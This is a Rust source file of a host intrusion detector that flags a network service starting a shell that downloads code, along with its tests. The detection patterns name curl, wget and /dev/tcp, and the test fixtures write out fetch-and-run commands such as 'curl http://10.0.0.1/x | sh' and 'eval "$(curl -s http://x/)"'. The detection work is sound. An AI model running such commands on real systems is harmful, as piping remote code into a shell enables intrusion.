//! B1: a service starts a shell that downloads.

use super::service_entry::{is_queue_worker, runs_package_scripts, service_entry};
use crate::{
    detect::{Declaration, DetectionContext, Finding, SignalInfo, SignalKind, Stateless},
    model::{EventType, ProcessView, Signal, SignalClass},
    process::{Process, Role, Taint, base_name, reads_program_from_input},
};

/// Maximum number of ancestors of the downloader to inspect. Shells and wrappers such as `timeout` stand between the
/// service and the downloader.
const MAX_ANCESTORS: usize = 8;

/// Name of the evidence with the interpreter that runs the downloaded code.
const FED_INTERPRETER: &str = "interpreter";

/// Points of a download in a CI job, in a task of a queue or in the script of a package.
const BY_DESIGN: u8 = 3;

/// The signal. The full form is a download that is kept or given to an interpreter. Health checks and archive commands
/// of services call a downloader too, but they only look at the answer.
pub const SERVICE_DOWNLOADER: SignalInfo = SignalInfo {
    id: "B1",
    class: SignalClass::Behavior,
    weight: 20,
    full_weight: 35,
    kind: SignalKind::Sign,
    name: "Service started a shell that downloads",
    description: "A network service started a shell, and the shell a program that fetches files: what an exploited service does.",
    catches: "The break-in itself, before any miner is there.",
    techniques: &["T1190", "T1059.004", "T1105"],
};

/// The declaration of the detector.
pub(in crate::detect) static DETECTOR: Declaration = Declaration {
    signals: &[SERVICE_DOWNLOADER],
    wants: &[EventType::Exec],
    evictions: None,
    create: |_| Box::new(Stateless(inspect)),
};

/// Checks downloaders, and interpreters that run downloaded code, when they start.
fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
    match context.process.role {
        Role::Downloader => downloads(context),
        Role::Shell | Role::Interpreter => runs_download(context),
        _ => None,
    }
}

/// Checks whether an interpreter runs downloaded code: a shell below a service pipes the code into it (`curl … | bash`). What
/// the code does then counts together with the break-in.
fn runs_download(context: &DetectionContext<'_>) -> Option<Finding> {
    let process = context.process;
    if process.script.is_some()
        || is_interactive(&process.view)
        || !reads_program_from_input(&process.view.executable.path, &process.view.arguments)
    {
        return None;
    }
    let shell = context.table.parent_of(process).filter(|parent| parent.role == Role::Shell)?;
    let told = shell.view.arguments.iter().skip(1);
    if !told.clone().any(|code| fetches(code)) || !pipes(&shell.view) {
        return None;
    }
    let (_, service) = service_entry(context.table, context.key())?;
    let above = || context.table.ancestry(service.key());
    if is_queue_worker(service) || above().any(runs_package_scripts) {
        return None;
    }
    let name = &process.view.name;
    let detail = format!(
        "service '{}' (pid {}) started a shell that piped a download into '{name}'",
        service.view.name,
        service.key().pid,
    );
    let finding = Finding::new(SERVICE_DOWNLOADER, context, detail)
        .tainting(Taint::FetchesForService)
        .value("service", &service.view.executable.path)
        .value(FED_INTERPRETER, &process.view.executable.path);
    Some(finding.full())
}

/// Whether a signal is B1 for an interpreter that runs downloaded code.
pub fn is_fed(signal: &Signal) -> bool {
    SERVICE_DOWNLOADER.names(signal) && signal.value(FED_INTERPRETER).is_some()
}

/// Whether code on a command line fetches something.
fn fetches(code: &str) -> bool {
    ["://", "curl ", "wget ", "fetch ", "/dev/tcp/"].iter().any(|word| code.contains(word))
}

/// Checks whether a started downloader has a shell among its ancestors, and a service above the shell.
fn downloads(context: &DetectionContext<'_>) -> Option<Finding> {
    let mut shells: Vec<&Process> = Vec::new();
    let ancestors = || context.table.ancestry(context.key()).skip(1).take(MAX_ANCESTORS);
    for ancestor in ancestors() {
        match ancestor.role {
            Role::Shell => shells.push(ancestor),
            Role::Interpreter | Role::Downloader | Role::Other => {}
            Role::Service => {
                if shells.is_empty() {
                    return None;
                }
                // The scripts of a package run in the language of the package, with its installer above them.
                let is_by_design = is_queue_worker(ancestor) || ancestors().any(runs_package_scripts);
                let detail = format!(
                    "service '{}' (pid {}) started a shell that ran '{}'",
                    ancestor.view.name,
                    ancestor.key().pid,
                    context.process.view.name
                );
                let finding = Finding::new(SERVICE_DOWNLOADER, context, detail)
                    .tainting(Taint::FetchesForService)
                    .value("service", &ancestor.view.executable.path)
                    .value("downloader", &context.process.view.executable.path);
                let is_used = keeps(&context.process.view)
                    || shells.iter().any(|shell| is_interactive(&shell.view) || pipes(&shell.view));
                return Some(match (is_by_design, is_used) {
                    (true, _) => by_design(finding),
                    (false, true) => finding.full(),
                    (false, false) => finding,
                });
            }
            // Jobs download by design, and so do the scripts of packages.
            Role::JobRunner if !shells.is_empty() => {
                let detail = format!("a job of '{}' ran '{}'", ancestor.view.name, context.process.view.name);
                return Some(by_design(Finding::new(SERVICE_DOWNLOADER, context, detail)));
            }
            Role::Kernel
            | Role::Init
            | Role::LoginService
            | Role::Scheduler
            | Role::ContainerRuntime
            | Role::JobRunner
            | Role::Agent
            | Role::LoginShell
            | Role::PackageManager
            | Role::TextViewer => return None,
        }
    }
    None
}

/// Lowers a finding about a program whose task is to start shells that download. It is a step, and no sign of force.
fn by_design(mut finding: Finding) -> Finding {
    finding.info.kind = SignalKind::Step;
    finding.signal.weight = BY_DESIGN;
    finding
}

/// Whether a downloader keeps what it fetches in a file.
fn keeps(downloader: &ProcessView) -> bool {
    let arguments = &downloader.arguments;
    let discards = arguments.iter().any(|argument| argument.contains("/dev/null"));
    let only_looks = arguments.iter().any(|argument| {
        matches!(&**argument, "--spider" | "-I" | "--head" | "-T" | "--upload-file" | "-F" | "-d" | "--data")
    });
    if discards || only_looks {
        return false;
    }
    if base_name(&downloader.executable.path).starts_with("curl") {
        return arguments.iter().skip(1).any(|argument| {
            let flags = argument.strip_prefix('-').filter(|flags| !flags.starts_with('-')).unwrap_or("");
            flags.contains(['o', 'O']) || argument.starts_with("--output") || &**argument == "--remote-name"
        });
    }
    // The others write a file unless they are told to print.
    !arguments.iter().any(|argument| {
        matches!(&**argument, "-O-" | "-qO-" | "-O -" | "--output-document=-" | "-")
            || argument.ends_with("O-")
    })
}

/// Whether somebody types into the shell, which no service lets anybody do.
fn is_interactive(shell: &ProcessView) -> bool {
    shell.arguments.get(1).is_some_and(|flag| &**flag == "-i")
}

/// Whether the code on a shell's command line gives what it fetches to an interpreter, or keeps it.
fn pipes(shell: &ProcessView) -> bool {
    const INTERPRETERS: [&str; 9] =
        ["sh", "bash", "dash", "ash", "zsh", "python", "python3", "perl", "base64"];
    shell.arguments.iter().skip(1).any(|code| {
        let mut parts = code.split('|');
        let _ = parts.next();
        let into = |part: &str| {
            let program = part.split_whitespace().find(|word| *word != "sudo" && !word.contains('='));
            program.is_some_and(|program| INTERPRETERS.contains(&base_name(program.trim_end_matches(';'))))
        };
        parts.any(into) || code.contains("$(curl") || code.contains("$(wget") || code.contains("<(curl")
    })
}

#[cfg(test)]
mod tests {
    use crate::testing::{Host, findings};

    /// Starts each program as the child of the one before and returns the findings. The last program downloads.
    fn lineage(programs: &[(&str, &[&str])]) -> Vec<(&'static str, u8)> {
        let mut host = Host::new();
        let mut last = host.boot("/usr/lib/systemd/systemd", &["systemd"]);
        for (path, arguments) in programs {
            last = host.spawn(last, path, arguments);
        }
        findings(&host)
    }

    #[test]
    fn services_whose_shells_download_are_found() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
        let cases: [&[(&str, &[&str])]; 5] = [
            &[("/usr/bin/redis-server", &["redis-server"]), shell, curl],
            &[
                ("/usr/bin/node", &["node", "/usr/bin/npm", "start"]),
                ("/usr/bin/dash", &["sh", "-c", "node server.js"]),
                ("/usr/bin/node", &["node", "server.js"]),
                shell,
                curl,
            ],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/bash", &["bash", "-i"]), curl],
            &[
                ("/usr/bin/java", &["java", "-jar", "app.jar"]),
                shell,
                ("/usr/bin/timeout", &["timeout"]),
                curl,
            ],
            &[("/usr/bin/node", &["node", "server.js"]), shell, ("/usr/bin/wget", &["wget", "x"])],
        ];
        for case in cases {
            assert_eq!(lineage(case), [("B1", 35)], "{case:?}");
        }
    }

    #[test]
    fn a_shell_that_only_looks_at_the_answer_counts_less() {
        let service: (&str, &[&str]) = ("/usr/bin/node", &["node", "server.js"]);
        let cases: [(&[&str], &[&str], u8); 8] = [
            (&["sh", "-c", "curl -fs http://app.example/health || exit 1"], &["curl", "-fs", "x"], 20),
            (&["sh", "-c", "curl -so /dev/null http://x/"], &["curl", "-so", "/dev/null", "x"], 20),
            (&["sh", "-c", "curl -T wal http://backup/"], &["curl", "-T", "wal", "x"], 20),
            (&["sh", "-c", "curl -s http://x/ | grep -q ok"], &["curl", "-s", "x"], 20),
            (&["sh", "-c", "curl -s http://x/ | sudo bash -s"], &["curl", "-s", "x"], 35),
            (&["sh", "-c", "eval \"$(curl -s http://x/)\""], &["curl", "-s", "x"], 35),
            (&["sh", "-i"], &["curl", "-sO", "x"], 35),
            (&["bash", "/tmp/x"], &["curl", "--output", "/tmp/y", "x"], 35),
        ];
        for (shell, curl, weight) in cases {
            let found = lineage(&[service, ("/usr/bin/dash", shell), ("/usr/bin/curl", curl)]);
            assert_eq!(found, [("B1", weight)], "{shell:?}");
        }
    }

    #[test]
    fn downloads_by_design_count_little() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
        let cases: [&[(&str, &[&str])]; 3] = [
            &[
                ("/usr/bin/node", &["node", "/usr/bin/npm", "install"]),
                shell,
                ("/usr/bin/node", &["node", "preinstall.js"]),
                shell,
                curl,
            ],
            &[("/usr/bin/java", &["java", "-jar", "jenkins.war"]), shell, curl],
            &[("/usr/bin/python3", &["python3", "/usr/bin/celery", "-A", "app", "worker"]), shell, curl],
        ];
        for case in cases {
            assert_eq!(lineage(case), [("B1", 3)], "{case:?}");
        }
    }

    #[test]
    fn other_downloads_are_not_found() {
        let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
        let cases: [&[(&str, &[&str])]; 5] = [
            &[("/usr/sbin/cron", &["cron"]), shell, curl],
            &[("/usr/sbin/sshd", &["sshd"]), ("/usr/bin/bash", &["-bash"]), curl],
            &[("/usr/bin/node", &["node", "/usr/bin/npm", "install"]), shell, curl],
            &[("/usr/sbin/nginx", &["nginx"]), curl],
            &[("/usr/sbin/php-fpm8.2", &["php-fpm"]), shell, ("/usr/bin/convert", &["convert", "a", "b"])],
        ];
        for case in cases {
            assert!(lineage(case).is_empty(), "{case:?}");
        }
    }
}
